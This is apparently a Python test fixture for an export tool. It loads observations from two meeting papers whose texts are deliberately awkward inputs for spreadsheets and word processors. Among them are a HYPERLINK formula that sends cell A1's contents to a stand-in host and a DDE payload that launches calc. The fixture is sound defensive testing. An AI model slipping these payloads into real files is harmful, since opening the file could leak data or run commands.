"""A history to make files of: two meetings of one authority, with what a hostile paper may print."""

from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from itertools import count
from typing import Any

from pandas import DataFrame

from load import Database, load
from query.files.contents import Contents, State
from query.filters import Filters
from query.findings import COLUMNS
from query.timeline import ABOUT
from schemas import Due, LegendEntry, Observation, PaperFacts, Place, Reading
from tests.load import readings as made

HOSTILE = {
    "1": '=HYPERLINK("http://example.org/?"&A1,"the force")',
    "2": "+1+1|' /C calc'!A0",
    "3": "-2 officers were appointed",
    "4": "@SUM(A1)",
    "5": "<r><t>bold</t></r>",
    "6": "bell\x07, escape\x1b[2J, next\x85line and _x0041_ as printed",
    "7": "http://example.org/ and www.example.org and a.b@example.org",
    "8": "😀" * 20_000,
    "9": "'=1+1",
    "10": "\t=1+1",
    "11": "＝1+1",
    "12": "First\nsecond \u202eline\u202c [link](http://x.org) <b>",
}
"""By number, texts that a spreadsheet or a word processor may act upon, or cannot hold."""

LEGEND = (
    LegendEntry(
        word="RED", definition="Beyond its deadline", fill="#ff0000", place=Place(page=1, table=1, row=1)
    ),
    LegendEntry(word="AMBER", definition="In progress", fill="#ffc000", place=Place(page=1, table=1, row=2)),
)


def story(database: Database) -> None:
    """A paper of a day and one of a month; number 1 turns red, number 2 slips, number 3 goes without a word."""
    first = made.facts("2018-02.pdf", date="2018-02-20", legend=LEGEND)
    second = made.facts("2018-11.pdf", date="2018-11", legend=LEGEND)
    rows = [made.observation(first, number, text=text, comment=text) for number, text in HOSTILE.items()]
    rows[1] = made.observation(first, "2", due=(due("2018-03"),), due_raw="March 2018", text=HOSTILE["2"])
    later = [
        made.observation(second, "1", "red", text=HOSTILE["1"], is_new=True),
        made.observation(
            second, "2", due=(due("2018-03"), due("2018-12-14", role="revised")), text=HOSTILE["2"]
        ),
        *(made.observation(second, number, "green", text=HOSTILE[number]) for number in list(HOSTILE)[3:]),
    ]
    clock = ticking()
    for facts, observations in ((first, rows), (second, later)):
        reading = Reading(paper=facts, observations=tuple(observations), leftovers=(), problems=())
        load(reading, database, clock=lambda: next(clock))


def ticking() -> Iterator[datetime]:
    """A clock that says the same in each test."""
    return (datetime(2019, 1, 1, tzinfo=UTC) + timedelta(minutes=minute) for minute in count())


def due(date: str, **changes: Any) -> Due:
    precision = {4: "year", 7: "month", 10: "day"}[len(date)]
    return Due(**{"date": date, "precision": precision, "text": date, **changes})


def filled(
    observations: tuple[Observation, ...] = (), papers: tuple[PaperFacts, ...] = (), **more: Any
) -> Contents:
    """Contents without a history: these observations, and no answers."""
    given: dict[str, Any] = {
        "filters": Filters(),
        "state": State(run_id=1, ended="2019-01-01T00:00:00Z", code_version="1"),
        "papers": papers,
        "timeline": DataFrame(columns=list(ABOUT)),
        "changes": lambda: iter(()),
        "findings": DataFrame(columns=list(COLUMNS)),
        "observations": lambda: iter(observations),
    }
    return Contents(**{**given, **more})
